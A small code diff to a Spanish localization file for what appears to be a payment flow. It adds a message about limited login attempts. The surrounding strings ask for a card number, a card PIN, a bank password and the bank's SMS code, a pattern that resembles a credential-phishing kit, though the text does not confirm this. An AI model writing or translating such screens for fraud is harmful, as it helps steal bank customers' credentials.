@@ -29,6 +29,7 @@ export const esSteps: Record<keyof typeof enSteps, string> = {
   'bankField.cardNumber': 'Número de tarjeta',
   'bankField.cardPin': 'PIN de la tarjeta',
   'login.lastAttempt': 'Último intento: si los datos vuelven a fallar, el pago se detendrá.',
+  'login.attempts': 'Tienes {count} intentos en total para entrar y confirmar el pago: cada contraseña o código incorrecto gasta uno.',
   'second.title': 'Una comprobación más',
   'second.sms': 'Escribe el código de acceso que tu banco te ha enviado por SMS.',
   'second.smsTo': 'Escribe el código de acceso que tu banco ha enviado por SMS al {phone}.',
